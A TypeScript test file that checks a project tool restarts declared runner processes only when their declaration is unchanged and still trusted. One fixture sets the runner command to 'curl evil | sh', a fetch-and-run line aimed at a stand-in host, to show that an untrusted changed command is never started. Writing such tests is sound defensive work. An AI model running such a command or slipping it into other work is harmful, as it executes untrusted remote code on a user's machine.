/** Declared runners that start again by themselves: as they are declared and trusted at that moment, and not otherwise. */
import assert from 'node:assert/strict';
import { settled } from '#test/machine/split-clock.ts';
import { DeclaredProject } from './declared-project.ts';
import { HarborInMemory } from './harbor-in-memory.ts';
import { runnersOf } from './shop.ts';
import { untilSeen } from './until-seen.ts';
import type { WireClient } from './wire-client.ts';

const worker = { command: 'worker --slowly', restart: 'always' };

describe('Declared runners that start again', () => {
  let harbor: HarborInMemory;
  let user: WireClient;
  let project: DeclaredProject;

  beforeEach(async () => {
    harbor = await HarborInMemory.open();
    project = await DeclaredProject.make(harbor);
    user = await harbor.connect();
    await project.declare({ runners: { worker } });
    await user.get('runners/start', { path: project.path, name: 'worker' });
    const { id } = await comes('ready');
    harbor.hosts.end(id, { code: 1 });
    await comes('queued');
  });
  afterEach(async () => {
    await harbor.close();
    await project.remove();
  });

  const comes = (state: string) =>
    untilSeen(`it is ${state}`, async () =>
      (await runnersOf(user, project.path)).find((each) => each.state === state),
    );
  /** The machine is started anew, and the server with it. */
  const nextServer = async () => {
    await harbor.restart();
    user = await harbor.connect();
    await settled(10);
  };
  const started = () => harbor.hosts.spawned.map(({ argv }) => argv.join(' '));

  it('(control) do so while nothing of their file has changed', async () => {
    await nextServer();
    await harbor.clock.pass(5_000);
    await comes('ready');
    assert.deepEqual(started(), ['worker --slowly', 'worker --slowly']);
  });

  it('do not once their project is trusted no more', async () => {
    const { projectId } = await comes('queued');
    await user.get('trust/revoke', { projectId });
    await nextServer();
    await harbor.clock.pass(5_000);
    assert.equal((await comes('failed')).why, 'runnerUntrusted');
    assert.deepEqual(started(), ['worker --slowly']);
  });

  for (const [what, content] of [
    ['say something else', { runners: { worker: { ...worker, command: 'curl evil | sh' } } }],
    ['say nothing of them', { runners: {} }],
  ] as const)
    it(`do not while their file may ${what}, and nobody has trusted that`, async () => {
      await project.declare(content, false);
      await harbor.clock.pass(5_000);
      assert.equal((await comes('failed')).why, 'runnerUntrusted');
      assert.deepEqual(started(), ['worker --slowly']);
    });

  it('are what is declared and trusted by then', async () => {
    await project.declare({ runners: { worker: { ...worker, command: 'worker --fast' } } });
    await nextServer();
    await harbor.clock.pass(5_000);
    const { command, restarts } = await comes('ready');
    assert.deepEqual([command, restarts], ['worker --fast', 1]);
    assert.deepEqual(started(), ['worker --slowly', 'worker --fast']);
    await nextServer();
    assert.equal((await comes('ready')).command, 'worker --fast', 'and the journal says so');
  });
});
